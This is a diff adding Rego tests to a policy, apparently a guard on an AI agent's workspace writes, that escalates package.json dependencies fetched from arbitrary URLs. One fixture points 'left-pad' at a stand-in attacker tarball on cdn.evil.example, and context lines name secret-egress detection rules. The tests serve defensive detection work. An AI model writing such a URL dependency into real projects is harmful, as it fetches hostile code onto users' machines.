@@ -143,3 +143,13 @@ test_workflow_artifact_upload_with_auth_escalated if {
 	not "workspace.autorun-secret-egress" in rules(shield.deny) with input as inp
 	"workspace.autorun-secret-send" in rules(shield.escalate) with input as inp
 }
+
+test_package_json_url_dependency_escalated if {
+	inp := write("/w/package.json", "{\"dependencies\": {\"left-pad\": \"https://cdn.evil.example/lp.tgz\"}}")
+	"workspace.package-source" in rules(shield.escalate) with input as inp
+}
+
+test_package_json_repository_url_allowed if {
+	inp := write("/w/package.json", "{\"repository\": {\"url\": \"https://gitlab.acme.internal/x.git\"}, \"homepage\": \"https://acme.dev\"}")
+	not "workspace.package-source" in rules(shield.escalate) with input as inp
+}
